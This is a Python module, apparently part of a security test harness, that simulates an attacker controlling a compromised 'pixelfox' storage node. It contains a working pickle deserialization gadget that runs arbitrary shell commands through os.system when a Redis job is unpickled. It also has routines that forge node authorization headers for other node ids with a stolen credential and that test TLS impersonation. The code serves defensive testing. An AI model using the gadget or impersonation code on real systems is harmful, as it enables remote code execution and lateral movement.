"""What an attacker who owns a storage node can try with that node's own files.

Not imported by the tests: its text is run on the stolen lab host by the node's
own Python (``/opt/pixelfox/venv``), with the node's env file loaded, exactly
as a process of the node's account would. It reads one JSON order on stdin and
prints one JSON answer:

- ``{"redis": [[command, arg, ...], ...], "url", "ca_file"}``: each command sent
  with the node's own ``PIXELFOX_REDIS_URL`` (or ``url``); the answer lists
  ``{"ok": repr}`` or ``{"error": message}`` per command. An argument
  ``{"pickle": "<shell command>"}`` is replaced by a pickle that runs the
  command when unpickled: arq's default serializer would execute it.
- ``{"http": {"method", "url", "as_node", "json", "content", "content_file",
  "extra_bytes", "params", "headers", "ca_file"}}``: one request; ``as_node``
  names whose node id goes into the node authorization header, always with this
  node's own credential (a ``headers`` Authorization replaces it);
  ``content_file`` sends a file of this node's disk, with ``extra_bytes`` more
  bytes after it. The answer is the status and the body, or status 0 and the
  error when no connection was made (e.g. a certificate refused).
- ``{"impostor": {"name", "cert", "key"}}``: a TLS server on loopback presenting
  ``cert`` (PEM, with ``key``), as one that took over ``name`` would; the node's
  own client context (``pixelfox_common.tls``, the one its HTTP clients use)
  connects to it asking for ``name``. The answer: ``{"connected": bool, "error"}``.

``ca_file`` replaces the node's ``PIXELFOX_CA_FILE``; "" trusts the system's CAs.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import ssl
import sys
import tempfile
import threading
from typing import Any

import httpx
import redis

from pixelfox_common import tls


class _Shell:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def _argument(value: Any) -> Any:
    if isinstance(value, dict) and "pickle" in value:
        return pickle.dumps(_Shell(value["pickle"]))
    return value


def _ca_file(order: dict[str, Any]) -> str:
    return str(order.get("ca_file", os.environ.get("PIXELFOX_CA_FILE", "")))


def run_redis(order: dict[str, Any]) -> list[dict[str, str]]:
    url = order.get("url") or os.environ["PIXELFOX_REDIS_URL"]
    # The node's own options (certificate and name verified), as its services connect.
    options: dict[str, Any] = {"socket_timeout": 10, **tls.redis_options(url, _ca_file(order))}
    client = redis.Redis.from_url(url, **options)
    answers: list[dict[str, str]] = []
    for command in order["redis"]:
        try:
            answers.append({"ok": repr(client.execute_command(*map(_argument, command)))})
        except redis.RedisError as exc:
            answers.append({"error": f"{type(exc).__name__}: {exc}"})
    return answers


def run_http(order: dict[str, Any]) -> dict[str, Any]:
    node = order.get("as_node") or os.environ["PIXELFOX_NODE_ID"]
    credential = os.environ["PIXELFOX_NODE_CREDENTIAL"]
    headers = {"Authorization": f"Node {node}:{credential}", **order.get("headers", {})}
    if order.get("no_auth"):
        headers.pop("Authorization")
    content: bytes | None = None
    if "content_file" in order:
        with open(order["content_file"], "rb") as file:
            content = file.read() + b"x" * int(order.get("extra_bytes", 0))
    elif "content" in order:
        content = order["content"].encode("latin-1")
    try:
        response = httpx.request(
            order["method"],
            order["url"],
            headers=headers,
            params=order.get("params"),
            json=order.get("json"),
            content=content,
            verify=tls.http_verify(_ca_file(order)),
            timeout=30,
        )
    except httpx.ConnectError as exc:
        return {"status": 0, "body": f"{type(exc).__name__}: {exc}"}
    return {"status": response.status_code, "body": response.text[:4000]}


def run_impostor(order: dict[str, Any]) -> dict[str, Any]:
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with tempfile.TemporaryDirectory() as folder:
        for part in ("cert", "key"):
            with open(os.path.join(folder, part), "w") as file:
                file.write(order[part])
        server.load_cert_chain(os.path.join(folder, "cert"), os.path.join(folder, "key"))
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    def serve() -> None:
        connection, _ = listener.accept()
        try:
            with server.wrap_socket(connection, server_side=True):
                pass
        except (ssl.SSLError, OSError):
            pass  # the client hung up on the certificate

    threading.Thread(target=serve, daemon=True).start()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
            client = tls.ssl_context()
            with client.wrap_socket(raw, server_hostname=order["name"]):
                return {"connected": True, "error": ""}
    except ssl.SSLError as exc:
        return {"connected": False, "error": f"{type(exc).__name__}: {exc}"}
    finally:
        listener.close()


def main() -> None:
    order = json.load(sys.stdin)
    if "redis" in order:
        answer: Any = run_redis(order)
    elif "impostor" in order:
        answer = run_impostor(order["impostor"])
    else:
        answer = run_http(order["http"])
    print(json.dumps(answer))


if __name__ == "__main__":
    main()
